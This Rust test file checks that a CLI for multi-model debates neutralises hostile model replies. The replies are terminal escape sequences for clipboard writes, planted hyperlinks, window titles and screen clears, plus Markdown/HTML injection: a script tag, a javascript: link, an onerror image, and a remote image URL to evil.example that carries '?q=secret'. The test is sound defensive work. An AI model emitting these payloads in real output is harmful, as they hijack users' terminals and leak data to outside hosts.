//! A model reply written to take over the terminal — clipboard write, planted
//! hyperlink, window title, clear screen, cursor report, a C1 CSI, carriage
//! return and backspace overwrites, bells — and to inject HTML and a script
//! link into whatever renders the Markdown. Under a real pseudo-terminal
//! (util-linux `script`) and piped, in every mode, none of it reaches the
//! terminal as a command; the JSON stays exact.

use std::process::{Command, Output};

use agon_testkit::sandbox::Sandbox;
use agon_testkit::{Config, ModelScript, TestServer};
use serde_json::Value;

const HOSTILE: &str = "Fine.\u{1b}]52;c;cGF5bG9hZA==\u{7} \u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\ \
\u{1b}]0;pwned-title\u{7} \u{1b}[2J \u{1b}[6n \u{9b}31mred SAFE\rEVIL bell\u{7} back\u{8}\u{8} \
<script>alert(1)</script> [x](javascript:alert(1)) done.";

/// What a terminal must never receive from model text. (The live view's own
/// styling and cursor moves are `ESC [ … m`, `ESC [ K` and the like.)
const COMMANDS: [(&str, &str); 8] = [
    ("\u{1b}]", "an OSC sequence (clipboard, hyperlink, title)"),
    ("\u{1b}\\", "a string terminator"),
    ("\u{1b}[2J", "clear screen"),
    ("\u{1b}[6n", "a cursor position report"),
    ("\u{9b}", "a C1 CSI"),
    ("\u{7}", "a bell"),
    ("\u{8}", "a backspace"),
    ("SAFE\rEVIL", "a carriage return overwrite"),
];

fn server() -> TestServer {
    let mut config = Config::default();
    for model in ["a", "judge"] {
        config.models.insert(model.into(), ModelScript { replies: vec![HOSTILE.into(); 20], ..Default::default() });
    }
    TestServer::start(config, 0).unwrap()
}

fn command(env: &Sandbox, server: &TestServer, program: &str) -> Command {
    let mut cmd = env.command(program);
    cmd.env_remove("NO_COLOR").env("TERM", "xterm-256color").env("OPENAI_BASE_URL", format!("{}/v1", server.url()));
    cmd
}

const RUN: &str = "run 'Tabs or spaces?' --panel openai/a,openai/b --judge openai/judge --rounds 1";
const RUN_ARGS: [&str; 8] =
    ["run", "Tabs or spaces?", "--panel", "openai/a,openai/b", "--judge", "openai/judge", "--rounds", "1"];

/// `agon ARGS` under a pseudo-terminal: everything the terminal received.
fn on_a_terminal(env: &Sandbox, server: &TestServer, args: &str, no_color: bool) -> String {
    let line = format!("{} {args}", env!("CARGO_BIN_EXE_agon"));
    let mut cmd = command(env, server, "script");
    cmd.args(["-qec", &line, "/dev/null"]);
    if no_color {
        cmd.env("NO_COLOR", "1");
    }
    let out: Output = cmd.output().expect("util-linux `script` runs the CLI under a pseudo-terminal");
    assert!(out.status.success(), "{args}: {}", String::from_utf8_lossy(&out.stdout));
    String::from_utf8_lossy(&out.stdout).to_string()
}

fn piped(env: &Sandbox, server: &TestServer, args: &[&str]) -> (String, String) {
    let out = command(env, server, env!("CARGO_BIN_EXE_agon")).args(args).output().unwrap();
    assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    (String::from_utf8_lossy(&out.stdout).to_string(), String::from_utf8_lossy(&out.stderr).to_string())
}

fn assert_inert(what: &str, screen: &str) {
    for (sequence, name) in COMMANDS {
        assert!(!screen.contains(sequence), "{what}: {name} reached the terminal: {screen:?}");
    }
    assert!(screen.contains("^[]52;c;cGF5bG9hZA==^G"), "{what}: the sequence is shown, not hidden: {screen:?}");
}

#[test]
fn a_terminal_shows_hostile_text_and_never_obeys_it() {
    let env = Sandbox::new("hostile", "tty");
    let server = server();
    for (mode, extra, no_color) in [("live", "", false), ("NO_COLOR", "", true), ("--no-stream", " --no-stream", false)]
    {
        let screen = on_a_terminal(&env, &server, &format!("{RUN}{extra}"), no_color);
        assert!(screen.contains("Outcome: Completed"), "{mode}: {screen}");
        assert_inert(mode, &screen);
    }
    let screen = on_a_terminal(&env, &server, "show last", false);
    assert_inert("show on a terminal", &screen);
}

#[test]
fn piped_output_has_no_escape_codes_and_json_stays_exact() {
    let env = Sandbox::new("hostile", "piped");
    let server = server();
    let journal = env.root.join("copy.ndjson");
    let mut args = RUN_ARGS.to_vec();
    args.extend(["--journal", journal.to_str().unwrap()]);
    let (stdout, stderr) = piped(&env, &server, &args);
    for (what, text) in [("run's stdout", &stdout), ("run's stderr", &stderr)] {
        assert!(!text.contains('\u{1b}'), "{what}: {text:?}");
        assert_inert(what, text);
    }
    // The Markdown renders no HTML and no script link.
    assert!(stdout.contains("\\<script>alert(1)\\</script>"), "{stdout}");
    assert!(stdout.contains("[x\\](javascript:alert(1))"), "{stdout}");

    for args in [&["show", "last"][..], &["replay", journal.to_str().unwrap()], &["export", "last", "--format", "md"]] {
        let (stdout, _) = piped(&env, &server, args);
        assert!(!stdout.contains('\u{1b}'), "{args:?}");
        assert_inert(&format!("{args:?}"), &stdout);
    }
    let (page, _) = piped(&env, &server, &["export", "last", "--format", "html"]);
    assert!(page.contains("http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"));
    assert_inert("the HTML export", &page);

    // JSON is exact: every control escaped by the encoder, the text unchanged.
    for args in [&["show", "last", "--format", "json"][..], &["export", "last", "--format", "json"]] {
        let (json, _) = piped(&env, &server, args);
        assert!(!json.chars().any(|c| c.is_control() && c != '\n'), "{args:?}: {json:?}");
        let t: Value = serde_json::from_str(&json).unwrap();
        assert_eq!(t["turns"][0]["text"], HOSTILE, "{args:?}");
        assert_eq!(t["synthesis"]["text"], HOSTILE, "{args:?}");
    }
    let mut events_args = RUN_ARGS.to_vec();
    events_args.extend(["--events", "-"]);
    let (events, _) = piped(&env, &server, &events_args);
    assert!(!events.chars().any(|c| c.is_control() && c != '\n'), "{events:?}");
    let completed: Vec<Value> = events
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["type"] == "turn-completed")
        .collect();
    assert!(completed.iter().any(|e| e["text"] == HOSTILE), "the events carry the exact text");
}

/// A reply whose code span opens on one line and closes on the next, with
/// HTML, a script link and a remote image after it, and a fence it never
/// closes: every Markdown output renders none of it live and keeps its own
/// later sections (read by a real CommonMark renderer).
#[test]
fn markdown_outputs_render_no_html_from_a_span_across_lines() {
    const SPLIT: &str = "a `b\nc` <img src=x onerror=alert(1)> `d` e `f\ng` [x](javascript:alert(1)) \
![t](https://evil.example/p.png?q=secret) `h`\n\n```\nunclosed";
    let mut config = Config::default();
    for model in ["a", "judge"] {
        config.models.insert(model.into(), ModelScript { replies: vec![SPLIT.into(); 20], ..Default::default() });
    }
    let server = TestServer::start(config, 0).unwrap();
    let env = Sandbox::new("hostile", "split-span");
    piped(&env, &server, &RUN_ARGS);
    let session = std::fs::read_dir(env.root.join("data")).unwrap().next().unwrap().unwrap().path();
    let mut documents =
        vec![("transcript.md".to_string(), std::fs::read_to_string(session.join("transcript.md")).unwrap())];
    for args in [&["show", "last"][..], &["export", "last", "--format", "md"], &["export", "last", "--format", "adr"]] {
        documents.push((format!("{args:?}"), piped(&env, &server, args).0));
    }
    for (what, markdown) in &documents {
        let mut headings = 0;
        for event in pulldown_cmark::Parser::new_ext(markdown, pulldown_cmark::Options::all()) {
            use pulldown_cmark::{Event, Tag};
            match event {
                Event::Html(h) | Event::InlineHtml(h) => panic!("{what}: raw HTML {h:?} in\n{markdown}"),
                Event::Start(Tag::Image { dest_url, .. }) => panic!("{what}: an image of {dest_url}"),
                Event::Start(Tag::Link { dest_url, .. }) if dest_url.contains(':') && !dest_url.starts_with("http") => {
                    panic!("{what}: a link to {dest_url}")
                }
                Event::Start(Tag::Heading { .. }) => headings += 1,
                _ => {}
            }
        }
        assert!(headings >= 3, "{what}: a reply's open fence swallowed the document's headings:\n{markdown}");
    }
}
